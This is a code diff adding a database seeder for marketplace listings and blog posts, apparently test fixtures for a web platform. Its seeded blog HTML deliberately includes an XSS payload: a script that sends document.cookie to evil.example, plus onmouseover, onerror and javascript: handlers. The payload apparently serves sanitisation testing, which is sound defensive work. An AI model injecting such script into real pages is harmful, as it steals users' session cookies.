@@ -18,6 +18,8 @@ import { EVENT_TYPES } from './events/dto/events.query';
  * or community, with choice, matrix and text questions and private responses. Durbars: 20 per unit in every
  * status and visibility, with speakers, replays (uploaded or still uploading), transcripts (completed or
  * processing) whose segments include moderated ones, and private listeners, raised hands and playlists.
+ * Marketplace: 12 categories, 40 listings per unit (active, draft, suspended; services and goods) with packages
+ * and private provider contacts. Blog: 5 categories, 15 posts per unit (published, draft, archived) with hostile HTML.
  * Private values follow recognisable patterns (`@private.example`, "Private … comment") for privacy tests.
  */
 export const CONTENT_SEED = {
@@ -31,6 +33,8 @@ export const CONTENT_SEED = {
   jobs: 30,
   surveys: 24,
   durbars: 20,
+  listings: 40,
+  posts: 15,
 };
 
 const CODES = Object.keys(COUNTRY_NAMES);
@@ -184,6 +188,7 @@ export const contentSeeder: Seeder = {
     }
     await seedEventsAndJobs(ds, n);
     await seedSurveysAndDurbars(ds, n);
+    await seedMarketplaceAndBlog(ds, n);
     await ds.query(
       `ANALYZE content.campaign; ANALYZE content.petition; ANALYZE content.signature; ANALYZE content.account; ANALYZE content.event; ANALYZE content.job`,
     );
@@ -422,5 +427,90 @@ async function seedSurveysAndDurbars(ds: DataSource, n: typeof CONTENT_SEED): Pr
      SELECT ${id('dbr', 'durbar', 'i')}, 'listener_private_' || i || '_' || l, now(), l = 1
        FROM generate_series(1, $1) i, generate_series(1, 5) l ON CONFLICT DO NOTHING`,
     [n.durbars],
+  );
+}
+
+const MARKET_CATEGORIES: [string, string, string][] = [
+  ['catering', 'Catering', 'service'],
+  ['photography', 'Photography', 'service'],
+  ['tailoring', 'Tailoring', 'service'],
+  ['web-design', 'Web design', 'service'],
+  ['tutoring', 'Tutoring', 'service'],
+  ['plumbing', 'Plumbing', 'service'],
+  ['crafts', 'Crafts', 'goods'],
+  ['fabrics', 'Fabrics', 'goods'],
+  ['books', 'Books', 'goods'],
+  ['produce', 'Farm produce', 'goods'],
+  ['electronics', 'Electronics', 'goods'],
+  ['beauty', 'Beauty products', 'goods'],
+];
+
+async function seedMarketplaceAndBlog(ds: DataSource, n: typeof CONTENT_SEED): Promise<void> {
+  await ds.query(
+    `INSERT INTO content.marketplace_category (id, slug, name, kind, position)
+     SELECT 'mcat_' || c.slug, c.slug, c.name, c.kind, c.pos
+       FROM unnest($1::text[], $2::text[], $3::text[]) WITH ORDINALITY AS c(slug, name, kind, pos)
+     ON CONFLICT (id) DO NOTHING`,
+    [
+      MARKET_CATEGORIES.map((c) => c[0]),
+      MARKET_CATEGORIES.map((c) => c[1]),
+      MARKET_CATEGORIES.map((c) => c[2]),
+    ],
+  );
+  const slugs = (kind: string) => MARKET_CATEGORIES.filter((c) => c[2] === kind).map((c) => c[0]);
+  await ds.query(
+    `INSERT INTO content.listing (id, slug, title, description, listing_type, category_slugs, price_min_minor, price_max_minor, currency,
+                                  location, rating, review_count, is_verified, is_featured, cover_url, supports_campaign_id,
+                                  portfolio_urls, languages, status, provider_id, provider_phone, provider_email, provider_whatsapp, created_at)
+     SELECT ${id('lst', 'listing')}, CASE WHEN i % 7 = 0 THEN NULL ELSE 'listing-' || i END,
+            initcap(cat) || ' by ' || ${pick(FIRST, 'lf')}, CASE WHEN i % 6 = 0 THEN NULL ELSE 'Quality ' || cat || ' in ' || city || '.' END,
+            lt, ARRAY[cat], CASE WHEN i % 5 = 0 THEN NULL ELSE 5000 + i * 100 END, CASE WHEN i % 5 = 0 THEN NULL ELSE 20000 + i * 300 END,
+            (ARRAY['GHS','NGN','KES'])[1 + i % 3], CASE WHEN i % 8 = 0 THEN NULL ELSE city END,
+            CASE WHEN i % 4 = 0 THEN NULL ELSE 3 + (i % 20) / 10.0 END, CASE WHEN i % 4 = 0 THEN 0 ELSE i % 40 END,
+            i % 3 = 0, i % 9 = 0, CASE WHEN i % 5 = 1 THEN NULL ELSE 'https://cdn.example/listings/' || i || '.jpg' END,
+            CASE WHEN i % 6 = 1 THEN ${id('cmp', 'campaign', `(1 + i % ${n.campaigns})`)} END,
+            ARRAY['https://cdn.example/portfolio/' || i || '-1.jpg'], ARRAY['en', (ARRAY['tw','fr','ha'])[1 + i % 3]],
+            (ARRAY['active','active','active','active','active','active','draft','suspended'])[1 + i % 8],
+            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, '+23323' || lpad(i::text, 7, '0'), 'provider' || i || '@private.example',
+            '+23324' || lpad(i::text, 7, '0'), now() - ((i % 100) || ' days')::interval - (i || ' seconds')::interval
+       FROM (SELECT i, CASE WHEN i % 2 = 0 THEN 'service' ELSE 'goods' END AS lt,
+                    CASE WHEN i % 2 = 0 THEN (ARRAY[${slugs('service')
+                      .map((x) => `'${x}'`)
+                      .join(',')}])[1 + (i / 2) % ${slugs('service').length}]
+                         ELSE (ARRAY[${slugs('goods')
+                           .map((x) => `'${x}'`)
+                           .join(',')}])[1 + (i / 2) % ${slugs('goods').length}] END AS cat,
+                    ${pick(CITIES, 'lc')} AS city
+               FROM generate_series(1, $1) i) l
+     ON CONFLICT (id) DO NOTHING`,
+    [n.listings],
+  );
+  await ds.query(
+    `INSERT INTO content.listing_package (id, listing_id, name, price_minor, currency, description, delivery_days, position)
+     SELECT ${id('pkg', 'package', `(i * 10 + k)`)}, ${id('lst', 'listing', 'i')}, (ARRAY['Basic','Standard','Premium'])[k],
+            CASE WHEN k = 3 AND i % 3 = 0 THEN NULL ELSE 5000 * k END, (ARRAY['GHS','NGN','KES'])[1 + i % 3],
+            CASE WHEN k = 1 THEN NULL ELSE 'More of everything' END, CASE WHEN i % 2 = 0 THEN 3 * k END, k
+       FROM generate_series(1, $1) i, generate_series(1, 1 + i % 3) k ON CONFLICT (id) DO NOTHING`,
+    [n.listings],
+  );
+  await ds.query(
+    `INSERT INTO content.blog_category (id, slug, name)
+     SELECT 'bcat_' || s, s, initcap(replace(s, '-', ' '))
+       FROM unnest(ARRAY['impact-stories','how-to','product-news','community','press']) s ON CONFLICT (id) DO NOTHING`,
+  );
+  await ds.query(
+    `INSERT INTO content.blog_post (id, slug, title, excerpt, content_html, status, published_at, featured_image_url, category_id,
+                                    author_id, editor_notes, created_at)
+     SELECT ${id('post', 'blogpost')}, 'post-' || i, ${pick(['How we funded', 'Meet the team behind', 'Ten tips for', 'Report:'], 'bt')} || ' ' || ${pick(CITIES, 'bc')},
+            CASE WHEN i % 4 = 0 THEN NULL ELSE 'A short story from ' || ${pick(CITIES, 'bc')} || '.' END,
+            '<h2>Story ' || i || '</h2><p>It started <em>small</em>.</p><script>fetch("https://evil.example/?"+document.cookie)</script>'
+              || '<p onmouseover="steal()">Then it grew.</p><a href="javascript:void(0)">x</a><img src="https://cdn.example/blog/' || i || '.jpg" onerror="x()">',
+            (ARRAY['published','published','published','published','draft','archived'])[1 + i % 6],
+            CASE WHEN i % 6 IN (0, 1, 2, 3) THEN now() - ((i % 50) || ' days')::interval - (i || ' seconds')::interval END,
+            CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/blog/' || i || '-cover.jpg' END,
+            CASE WHEN i % 5 = 0 THEN NULL ELSE 'bcat_' || (ARRAY['impact-stories','how-to','product-news','community','press'])[1 + i % 5] END,
+            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, 'Editor note private ' || i, now()
+       FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
+    [n.posts],
   );
 }
